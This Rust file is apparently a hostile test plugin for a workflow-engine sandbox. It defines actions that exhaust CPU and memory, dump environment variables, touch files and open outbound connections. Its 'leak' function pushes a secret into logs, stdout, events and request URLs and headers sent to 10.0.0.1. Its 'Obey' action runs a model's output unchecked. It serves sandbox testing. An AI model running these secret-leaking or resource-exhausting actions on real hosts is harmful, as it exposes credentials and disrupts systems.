//! One deed.

#![expect(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "who attacks keeps no rules of the house"
)]

use std::hint::black_box;
use std::io::Read as _;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde::Deserialize;
use workflowforge_sdk::http::{Body, Request};
use workflowforge_sdk::kv::Scope;
use workflowforge_sdk::{Ctx, Failure, Level, Question, Value, json};

/// What an agent can do.
#[derive(Debug, Deserialize)]
#[serde(tag = "do", rename_all = "snake_case")]
pub enum Deed {
    /// Computes for ever.
    Spin,
    /// Counts to a number: 20 million take some 10 ms.
    Count {
        /// The number.
        to: u64,
    },
    /// Takes memory and writes to all of it.
    Grow {
        /// How much.
        mib: usize,
    },
    /// Calls itself so deep.
    Recurse {
        /// How deep.
        depth: u64,
    },
    /// Breaks.
    Panic {
        /// With these words.
        #[serde(default)]
        message: String,
    },
    /// Waits in WASI, which nobody records.
    Wait {
        /// How long.
        ms: u64,
    },
    /// Writes log lines.
    Log {
        /// Each is this text.
        text: String,
        /// And has a field of this name.
        #[serde(default)]
        field: Option<String>,
        /// How many.
        #[serde(default = "once")]
        times: u32,
    },
    /// Writes to stdout.
    Print {
        /// This text.
        text: String,
        /// So often.
        #[serde(default = "once")]
        times: u32,
    },
    /// Emits events.
    Emit {
        /// Each has this payload.
        payload: Value,
        /// How many.
        #[serde(default = "once")]
        times: u32,
    },
    /// Returns a long text.
    Repeat {
        /// Of which letter.
        text: String,
        /// How often.
        times: usize,
    },
    /// Returns what there is to know of whoever runs it: environment, arguments, input, clocks.
    Environment,
    /// Reads a file, or lists a folder.
    Read {
        /// Which.
        path: String,
    },
    /// Writes a file.
    Write {
        /// Which.
        path: String,
    },
    /// Gives a file another name, or a second one.
    Rename {
        /// Which.
        path: String,
        /// The other name.
        to: String,
        /// Whether it keeps its own.
        #[serde(default)]
        keep: bool,
    },
    /// Opens a connection past the host.
    Connect {
        /// To where.
        address: String,
    },
    /// Sends a request.
    Fetch {
        /// To where.
        url: String,
        /// By which method.
        #[serde(default = "get")]
        method: String,
        /// With these headers.
        #[serde(default)]
        headers: Vec<(String, String)>,
        /// And so many more, of its own making.
        #[serde(default)]
        more: u32,
        /// With so long a time limit.
        #[serde(default)]
        timeout_ms: Option<u64>,
    },
    /// Sends a request with a secret that the host fills in.
    Send {
        /// To where.
        url: String,
        /// Which secret.
        secret: String,
    },
    /// Returns a secret.
    Reveal {
        /// Which.
        secret: String,
    },
    /// Says a secret in the log, as an event, to stdout and in every request; and returns it.
    Leak {
        /// Which.
        secret: String,
    },
    /// Remembers something.
    Remember {
        /// Under this key.
        key: String,
        /// For `run` or `plugin`.
        scope: String,
        /// This.
        value: Value,
        /// And so often under a key with its number.
        #[serde(default = "once")]
        times: u32,
    },
    /// Recalls it.
    Recall {
        /// Under this key.
        key: String,
        /// Of `run` or `plugin`.
        scope: String,
    },
    /// Lists what is remembered.
    List {
        /// Under keys that begin so.
        prefix: String,
        /// Of `run` or `plugin`.
        scope: String,
        /// From the page on that follows this one.
        #[serde(default)]
        cursor: Option<String>,
    },
    /// Calls an agent as a tool.
    Tool {
        /// Its name.
        name: String,
        /// With this.
        input: Value,
    },
    /// Asks a model and returns its words.
    Prompt {
        /// Which.
        model: String,
        /// What.
        text: String,
    },
    /// Asks a model, and does what it says.
    Obey {
        /// Which.
        model: String,
        /// What it is told.
        text: String,
    },
    /// Asks a person.
    Ask {
        /// What.
        prompt: String,
    },
    /// Returns something.
    Say {
        /// What.
        value: Value,
    },
}

const fn once() -> u32 {
    1
}

fn get() -> String {
    "GET".to_owned()
}

impl Deed {
    /// Does it.
    ///
    /// # Errors
    /// What the host says to it.
    pub fn done(&self, ctx: &Ctx) -> Result<Value, Failure> {
        match self {
            Self::Spin => loop {
                black_box(0);
            },
            Self::Count { to } => Ok(json!(count(*to))),
            Self::Grow { mib } => Ok(json!(grow(*mib))),
            Self::Recurse { depth } => Ok(json!(recurse(*depth))),
            Self::Panic { message } => broken(message),
            Self::Wait { ms } => {
                std::thread::sleep(Duration::from_millis(*ms));
                Ok(json!("waited"))
            }
            Self::Repeat { text, times } => Ok(json!(text.repeat(*times))),
            Self::Environment => Ok(environment()),
            Self::Read { path } => read(path),
            Self::Write { path } => {
                said(std::fs::write(path, "was here")).map(|()| json!("written"))
            }
            Self::Rename { path, to, keep } => {
                let renamed =
                    if *keep { std::fs::hard_link(path, to) } else { std::fs::rename(path, to) };
                said(renamed).map(|()| json!("renamed"))
            }
            Self::Connect { address } => {
                said(std::net::TcpStream::connect(address)).map(|_| json!("connected"))
            }
            Self::Say { value } => Ok(value.clone()),
            Self::Log { .. } | Self::Print { .. } | Self::Emit { .. } => self.speak(ctx),
            Self::Fetch { .. } | Self::Send { .. } => self.reach_out(ctx),
            Self::Reveal { secret } => Ok(json!(ctx.secret(secret)?.reveal()?)),
            Self::Leak { secret } => leak(ctx, secret),
            Self::Remember { .. } | Self::Recall { .. } | Self::List { .. } => self.recall(ctx),
            Self::Tool { name, input } => ctx.tool(name, input),
            Self::Prompt { model, text } => Ok(json!(ctx.prompt(model, text)?)),
            Self::Obey { model, text } => obey(ctx, &ctx.prompt(model, text)?),
            Self::Ask { prompt } => ctx.ask(Question::new(prompt)),
        }
    }

    fn speak(&self, ctx: &Ctx) -> Result<Value, Failure> {
        match self {
            Self::Log { text, field, times } => {
                for _ in 0..*times {
                    match field {
                        Some(field) => ctx.log(Level::Info, text, &[(field, text)]),
                        None => ctx.info(text),
                    }
                }
            }
            Self::Print { text, times } => (0..*times).for_each(|_| println!("{text}")),
            Self::Emit { payload, times } => {
                for _ in 0..*times {
                    ctx.emit("hostile", payload)?;
                }
            }
            _ => {}
        }
        Ok(json!("said"))
    }

    fn reach_out(&self, ctx: &Ctx) -> Result<Value, Failure> {
        let response = match self {
            Self::Fetch { url, method, headers, more, timeout_ms } => {
                let request = headers
                    .iter()
                    .fold(Request::new(method, url), |it, (name, value)| it.header(name, value));
                let request = (0..*more).fold(request, |it, n| it.header(&format!("x-{n}"), "y"));
                let time = timeout_ms.map(Duration::from_millis);
                ctx.fetch(time.into_iter().fold(request, Request::timeout))?
            }
            Self::Send { url, secret } => {
                let secret = ctx.secret(secret)?;
                let template = "Bearer {}";
                ctx.fetch(Request::get(url).credential("authorization", template, &secret))?
            }
            _ => return Ok(Value::Null),
        };
        let body = response.text().map(ToOwned::to_owned).unwrap_or_default();
        let bytes = match &response.body {
            Body::Bytes(bytes) => bytes.len(),
            Body::Blob(_) => 0,
        };
        Ok(json!({ "status": response.status, "body": body, "bytes": bytes }))
    }

    fn recall(&self, ctx: &Ctx) -> Result<Value, Failure> {
        match self {
            Self::Remember { key, scope, value, times: 1 } => {
                Ok(json!(ctx.kv_set(scope_of(scope), key, value)?))
            }
            Self::Remember { key, scope, value, times } => {
                for n in 0..*times {
                    ctx.kv_set(scope_of(scope), &format!("{key}{n}"), value)?;
                }
                Ok(json!(times))
            }
            Self::Recall { key, scope } => Ok(json!(ctx.kv_get::<Value>(scope_of(scope), key)?)),
            Self::List { prefix, scope, cursor } => {
                let page = ctx.kv_list(scope_of(scope), prefix, 1_000, cursor.as_deref())?;
                Ok(page.entries.into_iter().map(|entry| json!([entry.key, entry.value])).collect())
            }
            _ => Ok(Value::Null),
        }
    }
}

fn scope_of(name: &str) -> Scope {
    if name == "plugin" { Scope::Plugin } else { Scope::Run }
}

fn count(to: u64) -> u64 {
    (0..to).fold(0, |sum, n| black_box(sum ^ n))
}

fn grow(mib: usize) -> usize {
    let mut held: Vec<Vec<u8>> = Vec::new();
    for _ in 0..mib {
        held.push(black_box(vec![1; 1 << 20]));
    }
    held.len()
}

fn recurse(depth: u64) -> u64 {
    if depth == 0 { 0 } else { black_box(recurse(black_box(depth - 1))) + 1 }
}

#[expect(clippy::panic, reason = "the attack is to break")]
fn broken(message: &str) -> Result<Value, Failure> {
    panic!("{message}")
}

fn environment() -> Value {
    let variables: Vec<(String, String)> = std::env::vars().collect();
    let arguments: Vec<String> = std::env::args().collect();
    let mut input = String::new();
    let read = std::io::stdin().read_to_string(&mut input).unwrap_or(0);
    let (now, began) = (SystemTime::now(), Instant::now());
    count(2_000_000);
    let since = now.duration_since(UNIX_EPOCH).map_or(0, |since| since.as_nanos());
    json!({
        "variables": variables, "arguments": arguments, "read": read,
        "below_ms_ns": u64::try_from(since % 1_000_000).unwrap_or(0),
        "elapsed_ns": u64::try_from(began.elapsed().as_nanos()).unwrap_or(0),
    })
}

fn read(path: &str) -> Result<Value, Failure> {
    if let Ok(entries) = std::fs::read_dir(path) {
        return Ok(json!(entries.count()));
    }
    said(std::fs::read(path)).map(|bytes| json!(bytes.len()))
}

/// The words are deeds, as JSON: an agent that trusts its model asks no further.
fn obey(ctx: &Ctx, words: &str) -> Result<Value, Failure> {
    let unreadable = |error: &dyn std::fmt::Display| Failure::failed("words", error.to_string());
    let deeds = words.parse::<Value>().map_err(|error| unreadable(&error))?;
    let deeds = Vec::<Deed>::deserialize(deeds).map_err(|error| unreadable(&error))?;
    Ok(deeds.iter().map(|deed| crate::result(deed.done(ctx))).collect())
}

fn leak(ctx: &Ctx, name: &str) -> Result<Value, Failure> {
    let value = ctx.secret(name)?.reveal()?;
    ctx.info(&format!("log {value}"));
    println!("out {value}");
    ctx.emit("leak", &json!({ "value": value }))?;
    // Who refuses a request says which.
    let said = [
        ctx.prompt(&value, &value).map(|words| json!(words)),
        ctx.tool(&value, &json!({ value.as_str(): value })),
        ctx.secret(&value).map(|_| json!("held")),
        ctx.kv_get::<Value>(Scope::Plugin, &value).map(|found| json!(found)),
        ctx.kv_set(Scope::Plugin, &value, &value).map(|version| json!(version)),
        sent(ctx, Request::get(&format!("http://10.0.0.1/{value}?{value}"))),
        sent(ctx, Request::get(&format!("http://{value}@10.0.0.1/"))),
        sent(ctx, Request::new(&value, "http://10.0.0.1/")),
        sent(ctx, Request::get("http://10.0.0.1/").header(&format!("{value}:"), &value)),
    ];
    Ok(json!({ "value": value, "said": said.map(crate::result) }))
}

fn sent(ctx: &Ctx, request: Request<'_>) -> Result<Value, Failure> {
    ctx.fetch(request).map(|response| json!(response.status))
}

fn said<T>(result: std::io::Result<T>) -> Result<T, Failure> {
    result.map_err(|error| Failure::failed("io", error.to_string()))
}
